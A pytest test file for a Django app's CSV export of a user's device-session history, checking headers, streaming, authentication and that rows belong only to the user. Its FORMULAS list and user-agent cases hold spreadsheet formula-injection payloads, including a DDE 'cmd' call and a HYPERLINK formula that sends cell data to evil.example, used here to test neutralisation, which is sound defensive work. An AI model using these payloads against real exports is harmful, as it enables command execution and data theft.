"""The history as a file to take home: the same facts, and nothing that a spreadsheet would obey."""

import csv
import io
import re

import pytest
from django.urls import reverse

from devices.core import sessions
from devices.core.clients.client import Client
from devices.core.log import export
from devices.models import DeviceSession, RevokeReason
from tests.client import CHROME, Device, refusal
from tests.devices.api.test_history import HISTORY, walk

AS_CSV = f"{HISTORY}?format=csv"


def table(answer):
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="sessions-\d{4}-\d\d-\d\d\.csv"', answer["Content-Disposition"]
    )
    assert "no-store" in answer["Cache-Control"]
    assert answer["X-Content-Type-Options"] == "nosniff"
    text = answer.getvalue().decode()
    assert text.endswith("\r\n") and "\r\n" in text
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def laptop(alice, mallory, sign_in, clock):
    """Alice's laptop, after a past of five devices."""
    for _ in range(3):
        sign_in(alice, agent="curl/8.0")
        clock.shift(1)
    phone, laptop = sign_in(alice), sign_in(alice)
    sign_in(mallory)
    laptop.delete(f"/api/sessions/{phone.session_id}")
    return laptop


def as_text(value):
    if value is None:
        return ""
    return str(value).lower() if isinstance(value, bool) else str(value)


def test_the_file_says_what_the_pages_say(laptop):
    pages, _ = walk(laptop, HISTORY)
    rows = table(laptop.get(AS_CSV))
    assert rows == [{key: as_text(value) for key, value in row.items()} for row in pages]
    assert list(rows[0]) == list(pages[0])
    assert [row["is_current"] for row in rows].count("true") == 1


def test_it_may_be_asked_for_by_a_header_too(laptop):
    answer = laptop.get(HISTORY, HTTP_ACCEPT="text/csv")
    assert len(table(answer)) == 5
    assert laptop.get(HISTORY, HTTP_ACCEPT="*/*").json()["results"]
    assert laptop.get(f"{HISTORY}?format=json").json()["results"]
    # A generated client accepts what most answers are.
    assert len(table(laptop.get(AS_CSV, HTTP_ACCEPT="application/json"))) == 5
    assert laptop.get(f"{HISTORY}?format=json", HTTP_ACCEPT="text/csv").json()["results"]


def test_the_page_of_devices_has_the_same_file(alice, laptop, client):
    client.force_login(alice)
    rows = table(client.get(reverse("devices:history-csv")))
    assert [{**row, "is_current": ""} for row in rows] == [
        {**row, "is_current": ""} for row in table(laptop.get(AS_CSV))
    ]


def test_the_page_gives_it_to_signed_in_users_only(db, client):
    answer = client.get(reverse("devices:history-csv"))
    assert (answer.status_code, answer.url.split("?")[0]) == (302, "/accounts/login/")


FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", " =1", "＝1", "＋1", "－1", "＠x", "a,=1", "a;=1",
    "a;@x", 'x";=1', "a|+1", "'; =1", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
]  # fmt: skip


@pytest.mark.parametrize("name", FORMULAS)
def test_V1_2_10_no_cell_is_a_formula(laptop, name):
    laptop.patch("/api/sessions/current", {"name": name})
    [row] = [row for row in table(laptop.get(AS_CSV)) if row["is_current"] == "true"]
    # However a program cuts the cell and trims what it got, no piece begins as a formula.
    pieces = [piece.strip(' "') for piece in re.split("[,;|\t\r\n]", row["name"])]
    assert not [piece for piece in pieces if piece[:1] in set("=+-@＝＋－＠")], row["name"]
    assert row["name"].replace("'", "") == name.replace("'", "").strip()


@pytest.mark.parametrize("agent", ['=1+1" "x"', "\t=1", "-2+3", CHROME, "a\x01b", "x, -y; =z"])
def test_V1_2_10_nor_is_what_a_client_calls_itself(alice, laptop, agent):
    sessions.start(alice, Client("192.0.2.1", agent))
    newest = table(laptop.get(AS_CSV))[0]["user_agent"]
    pieces = [piece.strip(' "') for piece in re.split("[,;|\t\r\n]", newest)]
    assert not [piece for piece in pieces if piece[:1] in set("=+-@")]
    assert agent != CHROME or newest == CHROME, "what is harmless stays as it is"


@pytest.mark.parametrize("text", ["Zoë’s 📱", 'say "hi"', "a,b;c", "Ω"])
def test_other_text_comes_through_as_it_is(laptop, text):
    laptop.patch("/api/sessions/current", {"name": text})
    [row] = [row for row in table(laptop.get(AS_CSV)) if row["is_current"] == "true"]
    assert row["name"] == text


def test_a_long_history_is_handed_on_as_it_is_read(alice, laptop, bystanders, monkeypatch):
    bystanders(alice, 30)
    short = laptop.get(AS_CSV)
    assert not short.streaming and len(table(short)) == 35
    monkeypatch.setattr(export, "STRETCH", 4)
    long = laptop.get(AS_CSV)
    assert long.streaming
    assert table(long) == table(short)
    for edge in (34, 35, 36):
        monkeypatch.setattr(export, "STRETCH", edge)
        assert table(laptop.get(AS_CSV)) == table(short)


def test_the_file_costs_as_many_queries_for_a_long_history(
    alice, laptop, bystanders, django_assert_num_queries
):
    for _ in range(2):
        with django_assert_num_queries(2):
            laptop.get(AS_CSV).getvalue()
        bystanders(alice, 30)


def test_a_refusal_is_json_whatever_was_asked_for(laptop, sign_in, alice):
    assert refusal(Device().get(AS_CSV)) == (401, "not_authenticated")
    assert Device().get(AS_CSV)["Content-Type"] == "application/json"
    sessions.revoke_all(alice, reason=RevokeReason.USER_ALL)
    assert refusal(laptop.get(AS_CSV)) == (401, "session_revoked")
    answer = Device().post(AS_CSV)
    assert (answer.status_code, answer["Content-Type"]) == (401, "application/json")


@pytest.mark.parametrize("query", ["format=xml", "format=CSV", "format=", "format=csv&format=json"])
def test_there_is_no_other_format(laptop, query):
    answer = laptop.get(f"{HISTORY}?{query}")
    assert answer["Content-Type"] == "application/json"
    assert refusal(answer) == (404, "not_found")
    assert refusal(laptop.get("/api/sessions?format=csv")) == (404, "not_found")


def test_A01_it_is_ones_own(laptop, mallory):
    theirs = set(DeviceSession.objects.filter(user=mallory).values_list("pk", flat=True))
    assert not {row["id"] for row in table(laptop.get(AS_CSV))} & {str(pk) for pk in theirs}
